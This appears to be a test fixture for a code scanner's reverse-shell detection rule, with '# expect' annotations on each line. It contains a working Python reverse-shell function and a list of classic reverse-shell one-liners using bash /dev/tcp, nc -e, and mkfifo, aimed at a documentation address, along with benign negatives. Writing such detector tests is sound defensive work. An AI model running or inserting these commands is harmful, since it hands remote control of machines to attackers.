import os
import pty
import socket
import subprocess  # expect: cmd-import-subprocess


def phone_home(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
    pty.spawn("/bin/bash")  # expect: cmd-reverse-shell@high
    subprocess.call(["/bin/sh", "-i"])  # expect: cmd-reverse-shell@high, cmd-subprocess-dyn@info
    os.system("/bin/sh -i")  # expect: cmd-reverse-shell@high, cmd-os-system@info
    os.execl("/bin/sh", "sh", "-i")  # expect: cmd-reverse-shell@high, cmd-os-exec-spawn@info
    # expect: cmd-reverse-shell@high, cmd-subprocess-dyn@info
    subprocess.Popen(["cmd.exe"], stdin=s, stdout=s)  # expect: cmd-partial-path
    subprocess.call(["/bin/ls"])  # ok: cmd-reverse-shell # expect: cmd-subprocess-dyn@info


LINES = [
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",  # expect: cmd-reverse-shell@high
    "nc -e /bin/sh 203.0.113.7 4444",  # expect: cmd-reverse-shell
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",  # expect: cmd-reverse-shell
    # expect: cmd-reverse-shell
    "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
    "exec 5<>/dev/tcp/203.0.113.7/4444",  # expect: cmd-reverse-shell
    "nc -z localhost 5432",  # ok: cmd-reverse-shell
    "bash -i",  # ok: cmd-reverse-shell
    "timeout 1 bash -c '</dev/tcp/localhost/5432'",  # ok: cmd-reverse-shell
    "socket.socket() and os.dup2() are explained below",  # ok: cmd-reverse-shell
]
